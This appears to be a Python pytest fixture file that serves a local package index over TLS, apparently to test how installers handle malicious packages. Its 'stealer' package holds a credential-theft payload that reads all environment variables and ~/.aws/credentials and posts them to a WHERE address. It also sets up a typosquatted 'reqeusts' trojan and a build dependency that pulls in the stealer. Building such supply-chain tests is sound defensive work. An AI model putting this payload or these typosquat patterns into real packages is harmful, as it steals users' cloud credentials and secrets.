"""An index of inert packages that the real installers are set up with, over TLS, and a machine for them."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from tests.support.archives import Content, core_metadata, sdist, sdist_name, wheel, wheel_name
from tests.support.gated import Gated
from tests.support.index import TwinFile, TwinIndex
from tests.support.tls import Certificates, make_certificates
from tests.support.trojan import SETUP, trojan

OLD = "2020-01-01T00:00:00Z"
BAD = SETUP.partition("class Install")[0].replace("from setuptools import setup\n", "").replace(
    "from setuptools.command.install import install\n", ""
) + (
    'found = {"env": dict(os.environ)}\ntry:\n'
    '    found["aws"] = (Path.home() / ".aws" / "credentials").read_text()\n'
    "    urllib.request.urlopen(WHERE, data=json.dumps(found).encode(), timeout=3)\nexcept Exception:\n    pass\n"
)
#: A build backend (PEP 517) of our own, which makes a wheel of one module; it asks for nothing.
BACKEND = """\
import zipfile
from pathlib import Path

META = "Metadata-Version: 2.1\\nName: built\\nVersion: 1.0\\n"
WHEEL = "Wheel-Version: 1.0\\nGenerator: ours\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"


def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "built-1.0-py3-none-any.whl"
    files = {"built.py": "", "built-1.0.dist-info/METADATA": META, "built-1.0.dist-info/WHEEL": WHEEL}
    record = "".join(f"{path},,\\n" for path in files) + "built-1.0.dist-info/RECORD,,\\n"
    with zipfile.ZipFile(Path(folder) / name, "w") as out:
        for path, text in (files | {"built-1.0.dist-info/RECORD": record}).items():
            out.writestr(path, text)
    return name
"""


def one(
    name: str,
    version: str,
    *requires: str,
    tag: str = "py3-none-any",
    yanked: str | None = None,
    files: dict[str, Content] | None = None,
    extra: str = "",
) -> TwinFile:
    """A wheel with its metadata beside it, uploaded long ago."""
    metadata = core_metadata(name, version, requires)
    if extra:
        metadata = metadata.replace(b"Summary:", f"Provides-Extra: {extra}\nSummary:".encode(), 1)
    held = files or {f"{name}.py": "ONE = 1\n"}
    data = wheel(name, version, held, metadata=metadata)
    return TwinFile(wheel_name(name, version, tag), data, metadata=metadata, uploaded=OLD, yanked=yanked)


def source(name: str, version: str, files: dict[str, Content]) -> TwinFile:
    """An sdist, uploaded long ago."""
    return TwinFile(sdist_name(name, version), sdist(name, version, files), uploaded=OLD)


def project(requires: Sequence[str]) -> str:
    """The pyproject.toml of an sdist that our backend builds."""
    return (
        f'[build-system]\nrequires = {list(requires)!r}\nbuild-backend = "backend"\n'
        '[project]\nname = "built"\nversion = "1.0"\n'
    )


def packages() -> dict[str, list[TwinFile]]:
    """alpha brings beta, chain brings reqeusts over three more; reqeusts and stealer are trojans, all inert."""
    return {
        "alpha": [one("alpha", "1.0", "beta>=1"), source("alpha", "1.0", {"alpha.py": "ONE = 1\n"})],
        "beta": [one("beta", "1.5"), one("beta", "1.4")],
        "reqeusts": [TwinFile(sdist_name("reqeusts", "2.32.1"), trojan(), uploaded=OLD)],
        "stealer": [one("stealer", "1.0", files={"stealer/__init__.py": BAD})],
        "chain": [one("chain", "1.0", "link-one", "beta")],
        "link-one": [one("link_one", "1.0", "link-two")],
        "link-two": [one("link_two", "1.0", "stealer")],
        "backend": [one("backend", "1.0", files={"backend.py": BACKEND})],
        "built": [source("built", "1.0", {"pyproject.toml": project(["backend"]), "built.py": ""})],
        "badly-built": [source("badly_built", "1.0", {"pyproject.toml": project(["backend", "stealer"])})],
        "many": [
            one("many", "1.0"),
            one("many", "1.1", "beta ; extra == 'more'", "gone ; sys_platform == 'win32'", extra="more"),
            one("many", "1.2", yanked="broken"),
            one("many", "2.0b1"),
        ],
        "shaped": [
            one("shaped", "1.0", tag="cp311-cp311-win_amd64"),
            one("shaped", "1.0", tag="cp311-cp311-macosx_11_0_arm64"),
            one("shaped", "1.0", tag="py3-none-manylinux_2_17_x86_64"),
        ],
        "tool": [
            TwinFile(
                wheel_name("tool", "1.0"),
                wheel("tool", "1.0", {"tool.py": "def main(): print('at work')\n"}, entry_points=_ENTRY),
                uploaded=OLD,
            )
        ],
    }


_ENTRY = "[console_scripts]\ntool = tool:main\n"


@pytest.fixture(scope="session")
def certificates(tmp_path_factory: pytest.TempPathFactory) -> Certificates:
    """A throw-away authority, and a server's certificate under it."""
    return make_certificates(tmp_path_factory.mktemp("tls"))


@pytest.fixture
def twin(certificates: Certificates) -> Iterator[TwinIndex]:
    """The index, over TLS."""
    with TwinIndex(packages(), certificates=certificates) as index:
        yield index


@pytest.fixture
def machine(tmp_path: Path, twin: TwinIndex) -> Gated:
    """A machine that is set up with the index."""
    return Gated(tmp_path, twin)
